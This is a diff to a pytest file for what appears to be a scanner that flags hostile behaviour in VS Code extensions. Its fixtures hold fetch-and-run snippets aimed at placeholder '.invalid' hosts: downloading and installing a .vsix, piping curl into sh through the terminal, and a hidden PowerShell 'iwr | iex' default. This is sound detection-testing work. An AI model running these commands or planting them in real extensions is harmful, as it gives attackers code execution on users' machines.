@@ -5,6 +5,9 @@ import json
 import pytest
 from source_lab import ids, package
 
+from beartrap.vet.behaviour import When
+from beartrap.vet.facts import PackageFacts
+
 START = 'const vscode = require("vscode");\nexports.activate = () => {\n'
 
 
@@ -12,9 +15,9 @@ START = 'const vscode = require("vscode");\nexports.activate = () => {\n'
     ("code", "kind", "near"),
     [
         (
-            'fetch("https://peer.invalid/p").then((r) => r.arrayBuffer()).then((b) => vscode.workspace.fs.writeFile(to, b)).then(() => vscode.commands.executeCommand("workbench.extensions.installExtension", to));',
+            'const to = vscode.Uri.joinPath(folder, "peer.vsix"); fetch("https://peer.invalid/p").then((r) => r.arrayBuffer()).then((b) => vscode.workspace.fs.writeFile(to, b)).then(() => vscode.commands.executeCommand("workbench.extensions.installExtension", to));',
             "chain.network-to-process",
-            'fetch("https://peer.invalid/p").then((r) => r.arrayBuffer()).then((b) => vscode.workspace.fs.writeFile(to, b)).then(() => vscode.commands.executeCommand("vscode.open", to));',
+            'const to = vscode.Uri.joinPath(folder, "peer.vsix"); fetch("https://peer.invalid/p").then((r) => r.arrayBuffer()).then((b) => vscode.workspace.fs.writeFile(to, b)).then(() => vscode.commands.executeCommand("vscode.open", to));',
         ),
         (
             'vscode.commands.executeCommand("workbench.action.terminal.sendSequence", { text: "curl -s https://a.invalid/x | sh\\n" });',
@@ -39,7 +42,7 @@ def test_what_an_editor_is_asked_to_do_is_done_by_the_extension(code: str, kind:
 
 
 @pytest.mark.parametrize(
-    ("default", "hit"), [("powershell -w hidden -c iwr https://i.invalid/i.ps1|iex", True), ("lens-indexer", False)]
+    ("default", "hit"), [('powershell -w hidden -c "iwr https://i.invalid/i.ps1 | iex"', True), ("lens-indexer", False)]
 )
 def test_a_setting_is_what_the_manifest_gives_where_nobody_has_set_it(default: str, hit: bool) -> None:
     settings = {"lens.indexer": {"type": "string", "default": default}}
@@ -56,7 +59,8 @@ def test_a_setting_is_what_the_manifest_gives_where_nobody_has_set_it(default: s
         "extension/out/extension.js": f'const helper = require("./helper");\n{START}{run}\n}};\n',
         "extension/out/helper.js": "exports.a = 1;\n",
     }
-    assert any(one.id == "process.piped" for one in package(files)) == hit
+    facts = PackageFacts("vscode", runs={"extension/out/extension.js": When.START})
+    assert any(one.id == "process.piped" for one in package(files, facts)) == hit
 
 
 @pytest.mark.parametrize("manifest", ["{", "[]", '{"contributes": {"configuration": [3, {"properties": {"a.b": 4}}]}}'])
@@ -66,7 +70,7 @@ def test_a_manifest_that_is_broken_sets_nothing(manifest: str) -> None:
         "extension/out/extension.js": f'const helper = require("./helper");\n{START}eval(vscode.workspace.getConfiguration("a").get("b"))\n}};\n',
         "extension/out/helper.js": "exports.a = 1;\n",
     }
-    package(files)
+    assert package(files, PackageFacts("vscode", runs={"extension/out/extension.js": When.START})) is not None
 
 
 @pytest.mark.parametrize(
